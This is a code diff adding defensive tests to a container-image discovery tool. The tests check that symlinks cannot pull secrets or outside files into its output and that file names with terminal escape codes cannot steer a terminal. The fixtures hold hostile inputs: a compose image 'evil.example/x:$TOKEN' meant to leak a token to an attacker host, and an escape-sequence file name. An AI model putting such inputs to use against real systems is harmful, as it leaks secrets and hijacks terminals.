@@ -243,3 +243,34 @@ def test_pin_leaves_links_and_what_it_may_not_write(command, scratch):
         f"# larder lock: alpine:3.19\nFROM alpine:3.19@{digest_of(1)}\n")
     assert json.loads(command("discover", "--json", cwd=folder).out)["image"].startswith(
         "alpine:3.19@sha256:")
+
+
+def test_links_do_not_lead_out_of_the_tree(command, scratch):
+    """Whoever wrote the tree must not have other files read into what is printed."""
+    tree, out = scratch / "tree", scratch / "out"
+    tree.mkdir()
+    out.mkdir()
+    (out / "env").write_text("TOKEN=hunter2\n")
+    (out / "compose.yml").write_text("services:\n  a:\n    image: never:1\n")
+    (out / "Dockerfile").write_text("FROM never:2\n")
+    (tree / ".env").symlink_to("../out/env")
+    (tree / "link").symlink_to("../out")
+    (tree / "compose.yml").write_text(
+        "include: [link/compose.yml]\nservices:\n  a:\n    image: evil.example/x:$TOKEN\n"
+        "  b:\n    build: link\n  c:\n    image: alpine:3\n")
+    for words in ("--json", "."), (".",), ("compose.yml",):
+        done = command("discover", *words, cwd=tree)
+        assert "alpine:3" in done.out
+        for never in ("hunter2", "never:"):
+            assert never not in done.out + done.err, done
+
+
+def test_names_of_files_do_not_steer_a_terminal(command, scratch):
+    tree = scratch / "tree"
+    tree.mkdir()
+    (tree / "Dockerfile.\x1b[31m\x9b2J").write_text("FROM alpine:5\nFROM $X\n")
+    (tree / "larder.lock").write_text("larder-lock 1\n")
+    for words in ("discover", "."), ("discover", "--table", "."), ("lock", "--pin"):
+        done = command(*words, cwd=tree)
+        assert "Dockerfile.?[31m" in done.out + done.err, done
+        assert not {"\x1b", "\x9b"} & set(done.out + done.err), done
